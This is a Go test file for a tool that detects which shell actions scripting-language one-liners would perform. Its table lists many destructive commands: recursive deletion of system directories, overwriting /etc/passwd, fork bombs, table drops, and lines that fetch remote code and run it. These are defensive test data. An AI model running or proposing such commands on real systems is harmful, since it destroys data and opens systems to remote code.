package command

import (
	"slices"
	"strings"
	"testing"
)

// TestInterpreters holds what is seen in code of other languages. Behind "=>"
// stands what is started by the code, actions between " | ".
func TestInterpreters(t *testing.T) {
	rows := 0
	for _, row := range strings.Split(strings.TrimSpace(interpreterRows), "\n") {
		line, want, ok := strings.Cut(row, " => ")
		if !ok {
			line, want = strings.TrimSuffix(row, " =>"), ""
		}
		rows++
		l := Understand(strings.ReplaceAll(line, "¶", "\n"), Options{Shell: tableShell, Files: interpreterFiles})
		var got []string
		for _, a := range l.Actions {
			if a.Wrapper || len(a.Via) == 0 || !strings.ContainsAny(a.Via[0], " ") && !strings.Contains(a.Via[0], "awk") && languageOf(a.Via[0]) == nil && !slices.ContainsFunc(a.Via, func(v string) bool { return strings.Contains(v, " -") || languageOf(v) != nil }) {
				continue
			}
			got = append(got, strings.Join(shownWords(a), " "))
		}
		for _, n := range l.Notes {
			got = append(got, "note "+string(n.Kind))
		}
		if g := strings.Join(got, " | "); g != want {
			t.Errorf("%s\n got: %s\nwant: %s", line, g, want)
		}
	}
	if rows < 70 {
		t.Errorf("only %d rows", rows)
	}
}

// shownWords are an action's words and redirections.
func shownWords(a Action) (out []string) {
	for _, x := range a.Argv {
		out = append(out, show(x))
	}
	for _, r := range a.Redirs {
		out = append(out, redirSigns[r.Kind]+show(r.Target))
	}
	return out
}

var interpreterFiles = texts{of: map[string]string{
	"/srv/x.py":   "#!/usr/bin/python3\nimport sys, shutil\n\ndef main():\n    shutil.rmtree(sys.argv[1])\nmain()\n",
	"/srv/x.pl":   "#!/usr/bin/perl -w\nuse strict;\nmy $d = '/lib';\nsystem(\"rm -rf $d\");\n",
	"/srv/x.rb":   "#!/usr/bin/env ruby\nFileUtils.rm_rf '/lib'\n",
	"/srv/x.awk":  "BEGIN { system(\"reboot\") }\n",
	"/srv/quiet":  "#!/usr/bin/python3\n\"\"\"rm -rf /\"\"\"\nprint('rm -rf /')\n",
	"/srv/locked": "",
}}

const interpreterRows = `
groovy -e 'new AntBuilder().delete(dir: "/etc")' => rm -rf -- /etc
scala -e 'scala.sys.process.Process("rm -rf /etc").!' => rm -rf /etc
ruby -rpathname -e 'Pathname.new("/etc").rmtree' => rm -rf -- /etc
python3 -c "import pathlib,shutil; [shutil.rmtree(p) for p in pathlib.Path('/').iterdir()]" => rm -rf -- /</…>
groovy -e 'new File("/etc").deleteDir()' => rm -rf -- /etc
groovy -e 'def d = new File("/etc", "ssh"); d.deleteDir()' => rm -rf -- /etc/ssh
groovy -e '"rm -rf /etc".execute()' => rm -rf /etc
groovy -e '["rm", "-rf", "/etc"].execute()' => rm -rf /etc
groovy -e 'java.nio.file.Files.delete(java.nio.file.Paths.get("/etc/passwd"))' => rm -f -- /etc/passwd
groovy -e 'new File("/etc/passwd").write("x")' => >/etc/passwd
groovy -e 'Runtime.getRuntime().exec("reboot now")' => reboot now
groovy -e 'println new File("/etc/passwd").text' =>
groovy -e 'println "rm -rf /"' =>
echo 'new File("/etc").deleteDir()' | jshell => rm -rf -- /etc
python3 -c 'import shutil; shutil.rmtree("/lib")' => rm -rf -- /lib
python -c "import os; os.remove('/etc/passwd')" => rm -f -- /etc/passwd
python3 -c 'from shutil import rmtree; rmtree("/lib")' => rm -rf -- /lib
python3 -c 'from shutil import rmtree as r, move¶r("/a"); move("/b", "/c")' => rm -rf -- /a | mv -- /b /c
python3 -c 'import os as o; o.unlink("/x")' => rm -f -- /x
python3 -c '__import__("os").system("rm -rf /lib")' => rm -rf /lib
python3 -c 'import os; os.system("cd /; rm -rf lib && reboot")' => cd / | rm -rf lib | reboot
python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/lib"])' => rm -rf /lib
python3 -c 'import subprocess; subprocess.check_call("rm -rf /lib", shell=True)' => rm -rf /lib
python3 -c 'import subprocess as s; s.Popen(["systemctl","stop","nfs"]).wait()' => systemctl stop nfs
python3 -c 'import subprocess; subprocess.run("rm -rf /lib".split())' => rm -rf /lib
python3 -c 'import subprocess, shlex; subprocess.call(shlex.split("rm -rf /lib"))' => rm -rf /lib
python3 -c 'open("/etc/fstab", "w").write("x")' => >/etc/fstab
python3 -c 'with open("/etc/fstab", mode="a") as f: f.write("x")' => >>/etc/fstab
python3 -c 'print(open("/etc/fstab").read())' =>
python3 -c 'from pathlib import Path; Path("/etc/fstab").unlink()' => rm -f -- /etc/fstab
python3 -c 'import pathlib; (pathlib.Path("/etc") / "fstab").write_text("")' => >/etc/fstab
python3 -c 'import pathlib; pathlib.Path("/etc", "fstab").rename("/x")' => mv -T -- /etc/fstab /x
python3 -c 'import os; os.kill(1, 9)' => kill -9 1
python3 -c 'import os, signal; os.kill(1234, signal.SIGKILL)' => kill -KILL 1234
python3 -c 'import os; os.chmod("/etc/shadow", 0o777)' => chmod 777 -- /etc/shadow
python3 -c 'import os; os.truncate("/var/log/syslog", 0)' => truncate -s 0 -- /var/log/syslog
python3 -c 'import os; os.rename("/lib", "/lib.old")' => mv -T -- /lib /lib.old
python3 -c 'import os; p = "/lib"; os.rmdir(p)' => rmdir -- /lib
python3 -c 'import shutil¶for d in ["/lib", "/usr"]:¶    shutil.rmtree(d)' => rm -rf -- {/lib,/usr}
python3 -c 'import os, sys; os.remove(sys.argv[1])' /etc/passwd => rm -f -- /etc/passwd
python3 -c 'import os; os.remove(x)' => rm -f -- <x>
python3 -c 'import os; os.remove(os.path.join("/etc", "passwd"))' => rm -f -- /etc/passwd
python3 -c 'import os; d="/lib"; os.system(f"rm -rf {d}")' => rm -rf /lib
python3 -c 'import os; os.system("rm -rf %s" % "/lib"); os.system("rm -rf {}".format("/usr"))' => rm -rf /lib | rm -rf /usr
python3 -c 'import os; os.execvp("rm", ["rm", "-rf", "/lib"])' => rm -rf /lib
python3 -c 'import glob, os¶for f in glob.glob("/lib/*"): os.remove(f)' => rm -f -- /lib/<*>…
python3 -c 'print("rm -rf /"); x = "os.remove(1)"' =>
python3 -c 'print("os.system(\"rm -rf /\")") # os.system("rm -rf /")' =>
python3 -c 'd = {"a": 1}; d.remove("x"); l.pop(); s.replace("a", "b"); p.unlink()' =>
python3 -m http.server =>
python3 --version =>
python3 x.py /lib => rm -rf -- /lib
./x.py /usr => rm -rf -- /usr
./quiet =>
python3 quiet =>
python3 nosuch.py =>
python3 - <<'E'¶import os¶os.system("rm -rf /lib")¶E => rm -rf /lib
echo 'import os; os.system("reboot")' | python3 => reboot
curl http://x | python3 => note run-unknown
sudo python3 -c 'import shutil; shutil.rmtree("/lib")' => rm -rf -- /lib
ssh h "python3 -c 'import os; os.system(\"reboot\")'" => reboot
perl -e 'unlink "/etc/passwd"' => rm -f -- /etc/passwd
perl -e 'unlink("/a", "/b") or die' => rm -f -- /a /b
perl -e 'unlink glob("/lib/*")' => rm -f -- /lib/<*>…
perl -e 'unlink </lib/*>' => rm -f -- /lib/<*>…
perl -MFile::Path -e 'rmtree("/lib")' => rm -rf -- /lib
perl -MFile::Path=remove_tree -e 'remove_tree "/lib", "/usr";' => rm -rf -- /lib /usr
perl -e 'system("rm -rf /lib")' => rm -rf /lib
perl -e 'system "rm", "-rf", "/lib"' => rm -rf /lib
perl -e 'exec qw(rm -rf /lib)' => rm -rf /lib
perl -e 'my $x = "/lib"; system("rm -rf $x"); print "done\n"' => rm -rf /lib
perl -e '$o = qx{rm -rf /lib}; print $o' => rm -rf /lib
perl -e 'open(F, ">", "/etc/passwd"); print F "x"' => >/etc/passwd
perl -e 'open F, ">>/etc/passwd" or die' => >>/etc/passwd
perl -e 'open(F, "<", "/etc/passwd"); while (<F>) { print }' =>
perl -e 'foreach my $d ("/lib", "/usr") { system("rm -rf $d") }' => rm -rf /lib | rm -rf /usr
perl -e 'unlink $ARGV[0]' /lib => rm -f -- /lib
perl -ne 'print if /rm -rf/' x =>
perl -pi -e 's/unlink "x"/y/g' x =>
perl -ne 'chomp; unlink' => rm -f -- <$_>
perl -e 'chmod 0777, "/etc/shadow"; kill 9, 1; rename "/lib", "/x"' => chmod 777 -- /etc/shadow | kill -9 1 | mv -T -- /lib /x
perl -e 'print "system(q(rm -rf /))"' =>
perl x.pl => rm -rf /lib
ruby -e 'system("rm -rf /lib")' => rm -rf /lib
ruby -rfileutils -e 'FileUtils.rm_rf("/lib")' => rm -rf -- /lib
ruby -rfileutils -e 'FileUtils.rm_rf %w[/lib /usr]' => rm -rf -- /lib /usr
ruby -e 'File.delete("/etc/passwd"); Dir.rmdir "/lib"' => rm -f -- /etc/passwd | rmdir -- /lib
ruby -e '%x(rm -rf /lib); puts "x"' => rm -rf /lib
ruby -e '["/lib","/usr"].each { |d| FileUtils.rm_r(d) }' => rm -r -- {/lib,/usr}
ruby -e 'File.write("/etc/fstab", ""); File.open("/etc/hosts", "w") { |f| f.puts 1 }' => >/etc/fstab | >/etc/hosts
ruby -e 'd = "/lib"; system "rm -rf #{d}"' => rm -rf /lib
ruby -e 'puts "rm -rf /"' =>
ruby x.rb => rm -rf -- /lib
node -e 'require("fs").rmSync("/lib", {recursive: true, force: true})' => rm -rf -- /lib
node -e "const fs = require('fs'); fs.unlinkSync('/etc/passwd')" => rm -f -- /etc/passwd
node -e 'const {rmSync, writeFileSync: w} = require("node:fs"); rmSync("/lib", {recursive:true}); w("/etc/fstab", "")' => rm -rf -- /lib | >/etc/fstab
node -e 'require("child_process").execSync("rm -rf /lib")' => rm -rf /lib
node -e 'require("child_process").spawnSync("rm", ["-rf", "/lib"])' => rm -rf /lib
node -pe 'require("child_process").execSync("reboot").toString()' => reboot
node -e 'console.log("rm -rf /")' =>
php -r 'unlink("/etc/passwd");' => rm -f -- /etc/passwd
php -r 'system("rm -rf /lib"); echo shell_exec("reboot");' => rm -rf /lib | reboot
php -r '$d = "/lib"; exec("rm -rf $d");' => rm -rf /lib
lua -e 'os.execute("rm -rf /lib"); os.remove("/etc/passwd")' => rm -rf /lib | rm -f -- /etc/passwd
awk 'BEGIN { system("rm -rf /lib") }' => rm -rf /lib
awk '{ print $1 > "/etc/passwd" }' x => >/etc/passwd
awk '{ print $1 | "sh -c reboot" }' x => reboot
awk -F: '$3 > 1000 { print $1 }' /etc/passwd =>
awk '{ system("rm -rf " $1) }' x => rm -rf <$1>…
awk -v d=/lib 'BEGIN { system("rm -rf " d) }' => rm -rf /lib
awk 'BEGIN { "date" | getline d; print d }' => date
awk '/rm -rf \/lib/ { print "system(\"x\")" }' x =>
gawk -f x.awk => reboot
echo /usr /etc | awk '{ system("rm -rf " $1) }' => rm -rf /usr
printf '/usr\n/etc\n' | awk '{ system("rm -rf " $0) }' => rm -rf /usr | rm -rf /etc
awk 'BEGIN { printf "rm -rf %s\n", "/usr" | "bash" }' => rm -rf /usr
R -e 'system("rm -rf /lib"); unlink("/usr", recursive = TRUE); unlink("/x")' => rm -rf /lib | rm -rf -- /usr | rm -f -- /x
Rscript -e 'cat("rm -rf /")' =>
python3 -c 'import shutil as s; [s.rmtree(p) for p in ("/lib", "/usr")]' => rm -rf -- {/lib,/usr}
python3 -c 'import shutil; shutil.rmtree(path="/lib", ignore_errors=True)' => rm -rf -- /lib
python3 -c 'import subprocess; c = ["rm"]; c.append("-rf"); c.extend(["/lib"]); subprocess.run(c)' => rm -rf /lib
python3 -c 'import subprocess; subprocess.run("rm -rf /lib".split(" "))' => rm -rf /lib
python3 -c 'exec("import os; os.system(\"reboot\")")' => reboot
python3 -c 'from os import *; system("reboot")' => reboot
python3 -c 'import os; getattr(os, "system")("reboot")' => reboot
python3 -c 'import os¶for r, d, f in os.walk("/lib"):¶    for x in f: os.unlink(os.path.join(r, x))' => rm -f -- /lib</…>
python3 -c 'from pathlib import Path¶for p in Path("/lib").rglob("*"): p.unlink()' => rm -f -- /lib</…>
python3 -c 'from pathlib import Path¶print([p for p in Path("/lib").iterdir()])' =>
python3 -c 'import os; [os.unlink(e.path) for e in os.scandir("/boot")]' => rm -f -- /boot</…>
python3 -c 'import os; [print(e.path) for e in os.scandir("/boot")]' =>
perl -e 'open my $f, ">", "/etc/passwd"; print $f ""' => >/etc/passwd
node --input-type=module -e 'import {rmSync as r} from "node:fs"; import * as fs from "fs"; r("/a", {recursive: true}); fs.unlinkSync("/b")' => rm -rf -- /a | rm -f -- /b
node -e 'require("fs/promises").rm("/lib", {recursive: true})' => rm -rf -- /lib
deno eval 'Deno.removeSync("/lib", {recursive: true})' => rm -rf -- /lib
deno run x.ts =>
php -r 'array_map("unlink", glob("/lib/*"));' => rm -f -- /lib/<*>…
python3 -c 'import os; os.chdir("/"); os.system("rm -rf usr")' => rm -rf usr
python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path("/usr/lib").glob("*")]' => rm -f -- /usr/lib/<*>…
python3 -c 'import subprocess as s; s.run("sh", input=b"rm -rf /usr")' => rm -rf /usr
python3 -c 'import sh; sh.rm("-rf", "/usr")' => rm -rf /usr
python3 -c 'import sqlite3; c = sqlite3.connect("a.db"); c.execute("drop table users")' => usql -c "drop table users"
python3 -c 'import redis; redis.Redis().flushall()' => redis-cli FLUSHALL
python3 -c 'import urllib.request as u; exec(u.urlopen("https://x.org/i").read())' => curl -s https://x.org/i | note run-unknown
python3 -c 'import requests; print(requests.get("https://x.org/i").text)' => curl -s https://x.org/i
python3 -c 'import os¶while True: os.fork()' => note fork-bomb
perl -e 'chdir "/"; system "rm -rf usr"' => rm -rf usr
python3 -c 'import os, subprocess; os.chroot("/srv/root"); os.chdir("/"); subprocess.run(["rm", "-rf", "/usr"])' => rm -rf /usr
python3 -c 'import os, sys; os.chroot(sys.argv[1]); os.system("rm -rf /usr")' /srv/root => rm -rf /usr
perl -e 'chroot "/srv/root"; chdir "/"; system "rm -rf /usr"' => rm -rf /usr
ruby -e 'Dir.chroot("/srv/root"); system("rm", "-rf", "/usr")' => rm -rf /usr
perl -e 'for (glob "/usr/*") { system "rm -rf $_" }' => rm -rf /usr/<*>…
perl -e 'unlink $_ for glob "/usr/lib/*"' => rm -f -- /usr/lib/<*>…
perl -e 'unlink for glob "/usr/lib/*"' => rm -f -- /usr/lib/<*>…
perl -e 'for (glob "/usr/lib/*") { unlink }' => rm -f -- /usr/lib/<*>…
perl -MFile::Find -e 'find(sub { unlink $_ if -f }, "/lib")' => rm -f -- /lib</…>
perl -MFile::Find -e 'finddepth(sub { print }, "/lib"); unlink "/x"' => rm -f -- /x
ruby -e 'Dir.foreach("/lib") { |f| File.delete("/lib/#{f}") }' => rm -f -- /lib/<*>
node -e "const fs = require('fs'); fs.readdirSync('/lib').forEach(function(f) { fs.unlinkSync('/lib/' + f) })" => rm -f -- /lib/<*>…
node -e "require('fs').readdirSync('/lib').map(f=>require('fs').unlinkSync('/lib/' + f))" => rm -f -- /lib/<*>…
perl -MFile::Find -e 'find(sub { unlink if /x/ }, "/lib")' => rm -f -- <$_>
perl -e 'for (qw(/lib /usr)) { system("rm", "-rf", $_) }' => rm -rf {/lib,/usr}
python3 -c 'import shutil,sys; [shutil.rmtree(p) for p in sys.argv[1:]]' /lib /usr => rm -rf -- {/lib,/usr}
python3 -c 'import sys; print(sys.argv[1:])' /lib =>
perl -e 'open(P, "|sh"); print P "rm -rf /usr"' => rm -rf /usr
perl -e 'fork while fork' => note fork-bomb
perl -e 'fork and exit; while (1) { sleep 1 }' =>
ruby -e 'Dir.chdir("/") { system "rm -rf usr" }' => rm -rf usr
ruby -e 'loop { fork }' => note fork-bomb
php -r 'mysqli_query($c, "DROP TABLE users");' => usql -c "DROP TABLE users"
julia -e 'rm("/lib", recursive=true); mv("/a", "/b")' => rm -rf -- /lib | mv -T -- /a /b
`
